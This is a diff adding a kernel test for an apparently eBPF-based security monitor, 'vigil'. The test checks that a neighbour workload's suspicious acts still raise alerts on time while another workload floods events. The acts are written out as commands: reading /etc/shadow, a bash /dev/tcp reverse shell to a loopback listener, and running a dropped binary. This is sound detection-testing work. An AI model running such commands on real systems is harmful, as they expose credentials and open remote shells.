@@ -1,0 +1,98 @@
+// Fairness on the real kernel: one workload floods distinct failed opens as
+// fast as this machine lets it, from two threads, while a neighbour reads
+// /etc/shadow, opens a reverse shell on loopback and runs a binary it just
+// dropped. The neighbour's three alerts arrive on time; the flood is held
+// to its share in the kernel, and what it shed is alerted, in `vigil status`
+// and in /metrics (bpf/fair.bpf.h, bpf/probe/fairness.h).
+import { execFileSync } from 'node:child_process';
+import { chmodSync, copyFileSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, it } from 'vitest';
+import type { Alert } from '../../src/model/alert.js';
+import { TestEngine } from '../support/engine.js';
+import { describeKernel, repoRoot, TestCgroupTree, timeScale, waitFor } from '../support/kernel.js';
+
+describeKernel('fairness', () => {
+  it('a flood of distinct events from one workload leaves a neighbour’s shadow read, reverse shell and new binary alerted on time, and its shedding reported', async () => {
+    const work = realpathSync(mkdtempSync(join(tmpdir(), 'vigil-fair-')));
+    const loadgen = join(work, 'loadgen');
+    execFileSync('cc', ['-O2', '-o', loadgen, join(repoRoot, 'bench/lib/loadgen.c')]);
+    const dropped = join(work, 'dropped-tool');
+    copyFileSync('/bin/true', dropped);
+    chmodSync(dropped, 0o755);
+    const listener = createServer((c) => c.destroy());
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+    const port = (listener.address() as { port: number }).port;
+    const tree = new TestCgroupTree();
+    const flood = tree.group('flood');
+    const neighbour = tree.group('neighbour');
+    const t = await TestEngine.start({ sinks: [] });
+    const alerts: { at: number; alert: Alert }[] = [];
+    t.engine.onAlert((a) => alerts.push({ at: Date.now(), alert: a }));
+    try {
+      await t.startProbe();
+      // Both workloads known before the flood (a first exec each).
+      expect((await flood.run('/bin/true', [])).code).toBe(0);
+      expect((await neighbour.run('/bin/true', [])).code).toBe(0);
+
+      // Two flooding threads, one per vCPU, each a new missing path per open (nothing to de-duplicate).
+      const floodMs = 8000;
+      const floods = [0, 1].map((i) => {
+        const child = flood.spawn(loadgen, ['flood', String(floodMs), `/nonexistent/vigil-fair-${process.pid}-${i}`]);
+        let out = '';
+        child.stdout!.on('data', (d) => (out += d));
+        return new Promise<{ n: number; ns: number }>((resolve, reject) => {
+          child.on('exit', (code) => (code === 0 ? resolve(JSON.parse(out) as { n: number; ns: number }) : reject(new Error(`flood exited ${code}`))));
+        });
+      });
+      // Held once the probe has seen a tick or two of it.
+      await waitFor('the flood held', () => t.logLines.find((l) => l.component === 'probe' && l.msg.startsWith(`fairness: cgroup ${flood.id} held`)), 5000 * timeScale);
+      await new Promise((r) => setTimeout(r, 1000));
+
+      // The neighbour, in the middle of the flood.
+      const acts: { rule: string; at: number }[] = [];
+      const act = async (rule: string, cmd: string, args: string[]): Promise<void> => {
+        acts.push({ rule, at: Date.now() });
+        await neighbour.run(cmd, args);
+      };
+      await act('Shadow or sudoers file read', '/bin/cat', ['/etc/shadow']);
+      await act('Standard input or output redirected to a socket', '/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${port}; exec 0<&3 1>&3 2>&3; true`]);
+      await act('Execution from a temporary directory', dropped, []);
+      const latencies: Record<string, number> = {};
+      for (const a of acts) {
+        const got = await waitFor(a.rule, () => alerts.find((x) => x.alert.rule === a.rule && x.alert.workload.cgroupPath === neighbour.path), 10_000 * timeScale);
+        latencies[a.rule] = got.at - a.at;
+      }
+      const results = await Promise.all(floods);
+      const n = results.reduce((s, r) => s + r.n, 0);
+      const rate = Math.round(n / (Math.max(...results.map((r) => r.ns)) / 1e9));
+      console.log(`fairness: flood of ${n.toLocaleString('en-US')} distinct opens at ${rate.toLocaleString('en-US')}/s (two threads); neighbour's alerts after ${JSON.stringify(latencies)} ms`);
+      // On time: each within 2 s of the act, flood or not (the issue: missed altogether).
+      for (const ms of Object.values(latencies)) expect(ms).toBeLessThan(2000 * timeScale);
+      // A flood, not a trickle: well above the node's default budget (50,000/s), as fast as the shared vCPUs allow.
+      expect(rate).toBeGreaterThan(75_000);
+
+      // The shedding: alerted for the flood's workload (a warning: no security event shed), with the kinds counted.
+      const shed = await waitFor('the shedding alerted', () => alerts.find((x) => x.alert.rule === 'Events shed' && x.alert.workload.cgroupPath === flood.path), 5000 * timeScale);
+      expect(shed.alert.priority).toBe('warning');
+      expect(Number(shed.alert.fields['vigil.loss.open'])).toBeGreaterThan(1000);
+      // Nothing of the neighbour's lost or shed.
+      expect(alerts.filter((x) => /Events (lost|shed)/.test(x.alert.rule) && x.alert.workload.cgroupPath === neighbour.path)).toEqual([]);
+      // In vigil status and /metrics, per workload.
+      const status = t.engine.status() as unknown as { workloadLosses: { workload: string; shed: number }[] };
+      const floodLosses = await waitFor('the status', () => status.workloadLosses.find((w) => w.workload === flood.path && w.shed > 0) ?? (t.engine.status() as unknown as typeof status).workloadLosses.find((w) => w.workload === flood.path && w.shed > 0));
+      expect(floodLosses.shed).toBeGreaterThan(n / 4);
+      const metrics = await (await fetch(`http://127.0.0.1:${t.engine.metricsPort}/metrics`)).text();
+      const line = metrics.split('\n').find((l) => l.startsWith('vigil_events_shed_total{') && l.includes(`workload="${flood.path}"`));
+      expect(Number(line?.split(' ').at(-1))).toBeGreaterThan(n / 4);
+    } finally {
+      flood.killAll();
+      listener.close();
+      await t.stop();
+      await tree.remove();
+      rmSync(work, { recursive: true, force: true });
+    }
+  });
+});
